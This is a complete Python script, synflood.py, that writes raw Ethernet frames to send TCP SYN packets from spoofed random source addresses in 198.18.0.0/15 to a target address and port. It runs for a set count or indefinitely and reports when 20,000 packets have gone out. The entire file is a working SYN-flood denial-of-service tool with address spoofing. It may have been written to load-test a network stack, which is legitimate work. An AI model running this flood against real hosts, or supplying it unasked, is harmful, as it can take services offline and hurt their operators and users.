#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""synflood.py DEVICE MAC ADDRESS PORT COUNT: sends SYNs from random addresses of 198.18.0.0/15, whom nobody
answers for. COUNT 0: until it is ended. Says "flooding" when the first 20,000 are sent, or all."""
import random
import socket
import struct
import sys

device, mac, address, port, count = sys.argv[1:6]
FIRST = 20000
random.seed(1)


def checksum(words):
    total = sum(words)
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def words_of(data):
    return struct.unpack(f"!{len(data) // 2}H", data)


wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((device, 0))
own = wire.getsockname()[4]
ether = bytes.fromhex(mac.replace(":", "")) + own + b"\x08\x00"
to = socket.inet_aton(address)
ip_sum = sum(words_of(struct.pack("!BBHHHBBH4s", 0x45, 0, 44, 0, 0x4000, 64, 6, 0, to)))
tcp_sum = sum(words_of(struct.pack("!HHBBHHHBBH4sHH", int(port), 0, 0x60, 2, 65535, 0, 0, 2, 4, 1460, to, 6, 24)))
sent = 0
while count == "0" or sent < int(count):
    source = (198 << 24) + (18 << 16) + random.getrandbits(17)
    high, low = source >> 16, source & 0xffff
    own_port, sequence = random.randrange(1024, 65536), random.getrandbits(32)
    wire.send(ether + struct.pack(
        "!BBHHHBBHI4sHHIIBBHHHBBH", 0x45, 0, 44, 0, 0x4000, 64, 6, checksum((ip_sum, high, low)), source, to,
        own_port, int(port), sequence, 0, 0x60, 2, 65535,
        checksum((tcp_sum, high, low, own_port, sequence >> 16, sequence & 0xffff)), 0, 2, 4, 1460))
    sent += 1
    if sent == FIRST or str(sent) == count:
        print("flooding", flush=True)
